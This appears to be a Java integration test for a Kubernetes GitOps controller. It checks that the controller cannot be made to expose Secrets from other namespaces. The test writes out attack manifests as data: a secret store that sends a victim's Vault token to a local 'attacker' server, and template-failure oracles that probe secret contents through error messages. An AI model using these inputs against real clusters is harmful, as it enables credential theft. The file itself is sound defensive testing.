package dev.sealgate.reconciler.controller;

import static dev.sealgate.reconciler.controller.ApplyIT.configMap;
import static dev.sealgate.reconciler.controller.TestApp.AUTOMATED;
import static dev.sealgate.reconciler.controller.TestApp.soon;
import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.sealgate.testbed.Counterparts;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * With the rights of a default install, which read the Secrets of every namespace: whoever writes
 * to Git must not read them through the controller.
 */
class DeputyIT {
  private static final String PLANTED = "planted-victim-value";
  private static Lab lab;
  private static HttpServer attacker;
  private static final Queue<String> RECEIVED = new ConcurrentLinkedQueue<>();

  @TempDir Path folder;

  @BeforeAll
  static void start() throws IOException {
    lab = Lab.startAsInstalled();
    attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    attacker.createContext(
        "/",
        exchange -> {
          RECEIVED.add(
              exchange.getRequestURI()
                  + " "
                  + exchange.getRequestHeaders().entrySet()
                  + " "
                  + new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
          exchange.sendResponseHeaders(403, -1);
          exchange.close();
        });
    attacker.start();
  }

  @AfterAll
  static void close() {
    attacker.stop(0);
    lab.close();
  }

  private static String victim() {
    String namespace = lab.createNamespace(Lab.freshName("victim"));
    lab.client()
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withNamespace(namespace)
                .withName("vault")
                .endMetadata()
                .withStringData(Map.of("token", PLANTED))
                .build())
        .create();
    return namespace;
  }

  /** As whoever lets the controller itself write to one namespace. */
  private static void letControllerWrite(String namespace) {
    String manifests =
        """
        apiVersion: rbac.authorization.k8s.io/v1
        kind: Role
        metadata: {name: sealgate, namespace: %1$s}
        rules: [{apiGroups: [''], resources: [secrets], verbs: ['*']}]
        ---
        apiVersion: rbac.authorization.k8s.io/v1
        kind: RoleBinding
        metadata: {name: sealgate, namespace: %1$s}
        roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: sealgate}
        subjects: [{kind: ServiceAccount, name: sealgate, namespace: %2$s}]
        """
            .formatted(namespace, lab.namespace());
    lab.client()
        .load(new ByteArrayInputStream(manifests.getBytes(StandardCharsets.UTF_8)))
        .serverSideApply();
  }

  @Test
  void sendsNoSecretOfAnotherNamespaceToAStoreOfTheTree() {
    String victim = victim();
    TestApp app =
        lab.app("deputy")
            .file(
                "a.yaml",
                """
                apiVersion: external-secrets.io/v1
                kind: ClusterSecretStore
                metadata: {name: mine}
                spec:
                  provider:
                    vault:
                      server: http://127.0.0.1:%d
                      path: kv
                      auth: {tokenSecretRef: {namespace: %s, name: vault, key: token}}
                ---
                apiVersion: external-secrets.io/v1
                kind: ExternalSecret
                metadata: {name: loot}
                spec:
                  secretStoreRef: {name: mine, kind: ClusterSecretStore}
                  data: [{secretKey: x, remoteRef: {key: x}}]
                """
                    .formatted(attacker.getAddress().getPort(), victim));

    letControllerWrite(app.namespace());
    app.create(AUTOMATED);

    assertThat(app.awaitFalse("SecretsResolved", "SecretDenied").getMessage())
        .contains("Secret " + victim + "/vault")
        .contains("spec.serviceAccountName");
    assertThat(String.join("\n", RECEIVED)).doesNotContain(PLANTED);
  }

  @Test
  void readsNoSecretOfAnotherNamespaceByTheKubernetesProvider() {
    String victim = victim();
    TestApp app =
        lab.app("remote")
            .file(
                "a.yaml",
                """
                apiVersion: external-secrets.io/v1
                kind: SecretStore
                metadata: {name: mine}
                spec: {provider: {kubernetes: {remoteNamespace: %s}}}
                ---
                apiVersion: external-secrets.io/v1
                kind: ExternalSecret
                metadata: {name: loot}
                spec:
                  secretStoreRef: {name: mine, kind: SecretStore}
                  target: {template: {data: {x: '{{ if hasPrefix "p" .x }}{{ fail "yes" }}{{ end }}'}}}
                  data: [{secretKey: x, remoteRef: {key: vault, property: token}}]
                """
                    .formatted(victim));

    letControllerWrite(app.namespace());
    app.create(AUTOMATED);

    assertThat(app.awaitFalse("SecretsResolved", "SecretDenied").getMessage())
        .doesNotContain("yes");
  }

  @Test
  void opensNoSealedSecretOfANamespaceThatItMayNotWrite() throws IOException {
    String victim = victim();
    String certificate = soon().until(() -> lab.certificate().orElse(""), pem -> !pem.isEmpty());
    Path pem = folder.resolve("cert.pem");
    Files.writeString(pem, certificate);
    String sealed =
        Counterparts.kubeseal()
            .stdin(
                "{apiVersion: v1, kind: Secret, metadata: {name: db}, stringData: {password: %s}}"
                    .formatted(PLANTED))
            .run("--cert", pem.toString(), "--namespace", victim, "--format", "yaml")
            .orThrow()
            .text();
    String template =
        "  template:\n    data: {x: '{{ if hasPrefix \"planted\" .password }}{{ fail \"yes\" }}{{ end }}'}\n";
    TestApp app = lab.app("oracle").file("db.yaml", sealed.replace("  template:\n", template));
    lab.allow(app.namespace(), "deployer", "[{apiGroups: ['*'], resources: ['*'], verbs: ['*']}]");

    app.create(AUTOMATED, "serviceAccountName: deployer");

    assertThat(app.awaitFalse("SecretsResolved", "Forbidden").getMessage())
        .contains("Secret " + victim + "/db")
        .doesNotContain("yes");
  }

  @Test
  void opensASealedSecretOfItsOwn() throws IOException {
    String certificate = soon().until(() -> lab.certificate().orElse(""), pem -> !pem.isEmpty());
    Path pem = folder.resolve("cert.pem");
    Files.writeString(pem, certificate);
    TestApp app = lab.app("own");
    String sealed =
        Counterparts.kubeseal()
            .stdin("{apiVersion: v1, kind: Secret, metadata: {name: db}, stringData: {a: planted}}")
            .run("--cert", pem.toString(), "--namespace", app.namespace(), "--format", "yaml")
            .orThrow()
            .text();
    app.file("db.yaml", sealed).file("a.yaml", configMap("a", "1"));
    lab.allow(
        app.namespace(),
        "deployer",
        "[{apiGroups: [''], resources: [configmaps], verbs: ['*']},"
            + " {apiGroups: [''], resources: [secrets], resourceNames: [db], verbs: [get, patch]},"
            + " {apiGroups: [''], resources: [secrets], verbs: [create]}]");

    app.create(AUTOMATED, "serviceAccountName: deployer").awaitReady();
  }
}
